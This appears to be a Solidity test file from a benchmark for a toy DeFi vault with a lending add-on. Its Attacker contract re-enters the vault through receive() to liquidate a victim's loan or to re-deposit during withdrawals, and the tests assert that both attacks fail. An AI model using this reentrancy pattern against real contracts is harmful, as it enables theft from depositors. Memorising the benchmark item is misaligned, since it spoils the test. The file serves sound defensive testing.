// SPDX-License-Identifier: MIT
pragma solidity 0.7.6;

import "./MillVault.sol";

// assay-canary-03d809c1-cbb6-43c5-a303-e9d553f40057

interface Vm {
    function deal(address account, uint256 amount) external;
    function expectRevert(bytes calldata reason) external;
    function prank(address sender) external;
    function startPrank(address sender) external;
    function stopPrank() external;
    function warp(uint256 time) external;
}

contract Usd is ERC20("US dollar", "USD") {
    address private maker = msg.sender;

    function mint(address to, uint256 amount) external {
        require(msg.sender == maker, "!maker");
        _mint(to, amount);
    }
}

contract Proof {
    Vm private constant vm = Vm(0x7109709ECfa91a80626fF3989D68f67F5b1DD12D);
    address payable private constant ANA = address(0xA9A);
    address payable private constant BEN = address(0xBE9);
    address payable private constant OPERATOR = address(0x09E);
    uint256 private constant START = 1_800_000_000;

    Usd private usd;
    MillVault private vault;
    GrainPurchases private purchases;
    ShareLoans private loans;
    Attacker private mallory;

    function setUp() public {
        vm.warp(START);
        vm.deal(address(this), 1 ether);
        vault = new MillVault{value: 1e15}();
        purchases = new GrainPurchases(address(vault), OPERATOR);
        vault.setStrategy(purchases);
        usd = new Usd();
        loans = new ShareLoans(usd, vault, 1_000e18);
        usd.mint(address(loans), 200_000e18);
        vm.deal(ANA, 100 ether);
        vm.deal(BEN, 20 ether);
        vm.startPrank(ANA);
        vault.deposit{value: 100 ether}();
        vault.approve(address(loans), 100 ether);
        loans.pledge(100 ether);
        loans.borrow(60_000e18);
        vm.stopPrank();
        vault.invest(50 ether);
        vm.prank(OPERATOR);
        purchases.buy(40 ether);
        mallory = new Attacker(vault, loans, usd);
        vm.deal(address(mallory), 300 ether);
        usd.mint(address(mallory), 60_000e18);
    }

    // What Ana's pledge is worth beyond her debt, in ether.
    function equityOfAna() public view returns (uint256) {
        uint256 worth = loans.pledged(ANA) * vault.pricePerShare() / 1e18;
        uint256 debt = loans.debt(ANA) * 1e18 / loans.ether_price();
        return worth > debt ? worth - debt : 0;
    }

    function test_Regular() public {
        require(vault.balanceOf(ANA) == 0 && loans.pledged(ANA) == 100 ether && usd.balanceOf(ANA) == 60_000e18, "borrowed");
        require(vault.totalAssets() == 100.001 ether && purchases.value() == 50 ether, "the same as before");
        vm.deal(OPERATOR, 60 ether);
        vm.prank(OPERATOR);
        purchases.sell{value: 50.0001 ether}(40 ether);
        require(vault.totalAssets() == 100.001 ether, "not released");
        vm.warp(START + 7 days);
        require(vault.totalAssets() == 110.0011 ether && vault.amountFor(1 ether) == 1.1 ether && vault.pricePerShare() == 1.1 ether, "released");
        vm.startPrank(BEN);
        require(vault.deposit{value: 11 ether}() == 10 ether, "fewer shares");
        require(vault.maxShares(BEN) == 10 ether, "all of it");
        vault.transfer(ANA, 1 ether);
        vault.approve(ANA, 2 ether);
        vault.increaseAllowance(ANA, 1 ether);
        vault.decreaseAllowance(ANA, 1 ether);
        vm.stopPrank();
        vm.startPrank(ANA);
        vault.transferFrom(BEN, ANA, 2 ether);
        usd.approve(address(loans), 60_000e18);
        loans.repay(60_000e18);
        loans.release(97 ether);
        require(vault.withdraw(100 ether) == 110 ether && ANA.balance == 110 ether, "out of the strategy");
        vm.stopPrank();
        require(vault.balanceOf(ANA) == 0 && vault.totalAssets() == 11.0011 ether, "left");
        vault.divest(1 ether);
        vault.setOpen(false);
        vault.setOpen(true);
        vault.transferOwnership(ANA);
        vm.prank(ANA);
        vault.renounceOwnership();
    }

    function test_RefusesAccounts() public {
        vm.expectRevert("!seed");
        new MillVault{value: 2e15}();
        vm.startPrank(BEN);
        vm.expectRevert("!shares");
        vault.deposit();
        vm.expectRevert("!shares");
        vault.withdraw(0);
        vm.expectRevert("!balance");
        vault.withdraw(1);
        (bool done, ) = address(vault).call{value: 1}("");
        require(!done, "only the strategy pays");
        vm.stopPrank();
        vault.setOpen(false);
        vm.prank(BEN);
        vm.expectRevert("!open");
        vault.deposit{value: 1 ether}();
    }

    function test_RefusesStrangers() public {
        vm.startPrank(BEN);
        vm.expectRevert("Ownable: caller is not the owner");
        vault.setStrategy(purchases);
        vm.expectRevert("Ownable: caller is not the owner");
        vault.invest(1);
        vm.expectRevert("Ownable: caller is not the owner");
        vault.divest(1);
        vm.expectRevert("Ownable: caller is not the owner");
        vault.setOpen(false);
        vm.expectRevert("Ownable: caller is not the owner");
        loans.setPrice(1);
        vm.expectRevert("Ownable: caller is not the owner");
        loans.takeBack(1);
        vm.expectRevert("!vault");
        purchases.divest(1);
        vm.expectRevert("!vault");
        purchases.invest();
        vm.expectRevert("!operator");
        purchases.buy(1);
        vm.expectRevert("!operator");
        purchases.sell(0);
        vm.stopPrank();
    }

    function test_RefusesOwners() public {
        vm.expectRevert("!next");
        vault.setStrategy(IStrategy(address(0)));
        vm.expectRevert("!once");
        vault.setStrategy(purchases);
        vm.expectRevert("!idle");
        vault.invest(50.001 ether + 1);
        vm.deal(OPERATOR, 60 ether);
        vm.prank(OPERATOR);
        purchases.sell{value: 60 ether}(40 ether);
        vm.expectRevert("!value");
        vault.divest(50 ether + 1);
        MillVault other = new MillVault{value: 1e15}();
        vm.expectRevert("!strategy");
        other.invest(1);
        vm.expectRevert("!price");
        loans.setPrice(0);
    }

    function test_RefusesLoans() public {
        vm.startPrank(ANA);
        vm.expectRevert("!worth");
        loans.borrow(5_000e18 + 1);
        vm.expectRevert("!worth");
        loans.release(10 ether);
        vm.expectRevert("!call");
        loans.call(ANA);
        vm.expectRevert("!debt");
        loans.repay(60_000e18 + 1);
        vm.expectRevert("!pledged");
        loans.release(100 ether + 1);
        vm.stopPrank();
        vm.startPrank(OPERATOR);
        vm.expectRevert("!liquid");
        purchases.buy(10 ether + 1);
        vm.expectRevert("!cost");
        purchases.sell(40 ether + 1);
        vm.stopPrank();
    }

    function test_RefusesPurchases() public {
        vm.expectRevert("!vault");
        new GrainPurchases(address(0), OPERATOR);
        vm.expectRevert("!operator");
        new GrainPurchases(address(vault), address(0));
        vm.prank(address(vault));
        vm.expectRevert("!liquid");
        purchases.divest(10 ether + 1);
    }

    function test_RefusesWithinPayments() public {
        Nested nested = new Nested(vault);
        vm.deal(address(nested), 2 ether);
        vault.transferOwnership(address(nested));
        nested.run();
        require(nested.refused() == 7, "locked");
    }

    function exploit() public {
        mallory.run();
    }

    function test_Exploit() public {
        require(equityOfAna() == 40 ether, "at first");
        exploit();
        require(equityOfAna() == 0, "nothing lost");
    }

    function exploit2() public {
        mallory.twice();
    }

    function test_Exploit2() public {
        exploit2();
        require(address(mallory).balance >= 350 ether, "nothing gained");
    }

    function target() public view returns (address) {
        return address(vault);
    }

    function attacker() public view returns (address) {
        return address(mallory);
    }
}

// Owns the vault, and tries everything while it is being paid.
contract Nested {
    MillVault private vault;
    uint256 public refused;
    bool private tried;

    constructor(MillVault v) {
        vault = v;
    }

    function run() external {
        vault.deposit{value: 2 ether}();
        vault.withdraw(1 ether);
    }

    function tryCall(bytes memory data, uint256 amount, bytes memory reason) private {
        (bool done, bytes memory answer) = address(vault).call{value: amount}(data);
        if (!done && keccak256(answer) == keccak256(abi.encodeWithSignature("Error(string)", reason))) refused++;
    }

    receive() external payable {
        if (tried) return;
        tried = true;
        tryCall(abi.encodeWithSelector(vault.withdraw.selector, 0.1 ether), 0, "!lock");
        tryCall(abi.encodeWithSelector(vault.setStrategy.selector, address(this)), 0, "!lock");
        tryCall(abi.encodeWithSelector(vault.invest.selector, 1), 0, "!lock");
        tryCall(abi.encodeWithSelector(vault.divest.selector, 1), 0, "!lock");
        tryCall(abi.encodeWithSelector(vault.totalAssets.selector), 0, "!settled");
        tryCall(abi.encodeWithSelector(vault.amountFor.selector, 1), 0, "!settled");
        tryCall(abi.encodeWithSelector(vault.maxShares.selector, address(this)), 0, "!settled");
    }
}

contract Attacker {
    MillVault private vault;
    ShareLoans private loans;
    IERC20 private usd;
    address private victim = address(0xA9A);
    uint256 private mode;

    constructor(MillVault v, ShareLoans l, IERC20 u) {
        vault = v;
        loans = l;
        usd = u;
    }

    function run() external {
        mode = 1;
        usd.approve(address(loans), 60_000e18);
        uint256 shares = vault.deposit{value: 300 ether}();
        vault.withdraw(shares);
    }

    function twice() external {
        mode = 2;
        vault.withdraw(vault.deposit{value: 300 ether}());
        vault.withdraw(vault.maxShares(address(this)));
    }

    receive() external payable {
        uint256 step = mode;
        mode = 0;
        if (step == 1) loans.call(victim);
        if (step == 2) vault.deposit{value: 300 ether}();
    }
}
